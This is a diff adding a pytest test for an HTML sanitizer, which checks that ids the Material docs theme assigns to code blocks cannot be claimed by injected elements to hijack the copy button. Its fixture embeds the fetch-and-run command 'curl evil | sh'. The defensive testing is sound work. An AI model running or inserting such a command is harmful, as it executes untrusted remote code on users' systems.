@@ -107,6 +107,18 @@ def test_only_local_pattern_urls_in_styles(hostile: str) -> None:
     assert "evil" not in sanitize_html(hostile)
 
 
+@pytest.mark.parametrize(
+    "value", ["__code_0", "__code_1_annotation_2", "__code___code_0", "__config", "__drawer"]
+)
+def test_ids_material_assigns_at_run_time_are_not_content_s(value: str) -> None:
+    """Material's script names each code block `__code_N` and its copy button copies
+    `#__code_N > code`, the first in the page: a hidden element claiming that id would have
+    the button copy its text instead of the block's."""
+    for attribute in ("id", "name", "for"):
+        cleaned = sanitize_html(f'<p {attribute}="{value}"><code>curl evil | sh</code></p>')
+        assert value not in cleaned
+
+
 @pytest.mark.parametrize("attribute", ["fill", "stroke"])
 @pytest.mark.parametrize(
     "value",
